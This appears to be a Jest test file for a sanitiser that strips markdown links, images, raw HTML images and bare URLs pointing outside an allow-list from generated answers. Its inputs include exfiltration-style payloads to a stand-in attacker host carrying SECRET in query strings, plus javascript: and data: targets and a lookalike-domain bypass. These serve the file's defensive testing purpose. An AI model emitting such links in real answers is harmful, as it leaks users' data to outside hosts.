import { describe, expect, it } from '@jest/globals';
import { IMAGE_REMOVED, LINK_REMOVED, removeForeignLinks } from './answer-links.js';

const ALLOWED = ['docs.example.org'];

describe('removeForeignLinks', () => {
  it('removes images to hosts not on the allow-list, and keeps allowed ones', () => {
    const answer =
      'See ![chart](https://evil.example/p.png?d=SECRET) and ![ok](https://docs.example.org/a.png).';
    const cleaned = removeForeignLinks(answer, ALLOWED);
    expect(cleaned).not.toContain('evil.example');
    expect(cleaned).not.toContain('SECRET');
    expect(cleaned).toContain(IMAGE_REMOVED);
    expect(cleaned).toContain('![ok](https://docs.example.org/a.png)');
  });

  it('keeps the text of a foreign link and drops its target', () => {
    const cleaned = removeForeignLinks('Read [the policy](https://evil.example/?q=x).', ALLOWED);
    expect(cleaned).toBe('Read the policy.');
  });

  it('keeps links to an allowed host and its subdomains only', () => {
    const answer =
      '[a](https://docs.example.org/x) [b](https://api.docs.example.org/y) [c](https://docs.example.org.evil.example/z)';
    const cleaned = removeForeignLinks(answer, ALLOWED);
    expect(cleaned).toContain('[a](https://docs.example.org/x)');
    expect(cleaned).toContain('[b](https://api.docs.example.org/y)');
    expect(cleaned).not.toContain('evil.example');
  });

  it('removes reference-style images and their definitions', () => {
    const answer = 'Look: ![x][img]\n\n[img]: https://evil.example/leak.png?d=SECRET\n';
    const cleaned = removeForeignLinks(answer, ALLOWED);
    expect(cleaned).not.toContain('evil.example');
    expect(cleaned).toContain(IMAGE_REMOVED);
  });

  it('removes protocol-relative, javascript: and data: targets', () => {
    const answer =
      '![a](//evil.example/x.png) [b](javascript:alert(1)) ![c](data:image/png;base64,AAAA)';
    const cleaned = removeForeignLinks(answer, ALLOWED);
    expect(cleaned).not.toMatch(/evil\.example|javascript:|data:image/);
  });

  it('removes a bare protocol-relative URL and an e-mail autolink in otherwise plain prose', () => {
    const cleaned = removeForeignLinks('see //evil.example/x?d=SECRET or mail a@evil.example', []);
    expect(cleaned).not.toContain('evil.example');
    // Control: prose without either is returned as it is.
    expect(removeForeignLinks('see [1] and/or [2]', [])).toBe('see [1] and/or [2]');
  });

  it('removes raw HTML images and bare URLs, even with no allow-list', () => {
    const answer = 'x <img src="https://evil.example/a.png?d=1"> y https://evil.example/?d=2 z';
    const cleaned = removeForeignLinks(answer, []);
    expect(cleaned).not.toContain('evil.example');
    expect(cleaned).toContain(LINK_REMOVED);
    expect(cleaned.startsWith('x ')).toBe(true);
  });

  it('removes autolinks that show their own target, www. and e-mail included', () => {
    const answer =
      'Go to www.evil.example/?d=SECRET or <https://evil.example/a> or x@evil.example.';
    const cleaned = removeForeignLinks(answer, ALLOWED);
    expect(cleaned).not.toContain('evil.example');
    expect(cleaned).not.toContain('SECRET');
  });

  it('leaves an answer without links unchanged', () => {
    const answer = 'The dose is 5 mg [1], twice daily [2].\n\n- item *one*\n- `code`';
    expect(removeForeignLinks(answer, ALLOWED)).toBe(answer);
  });
});
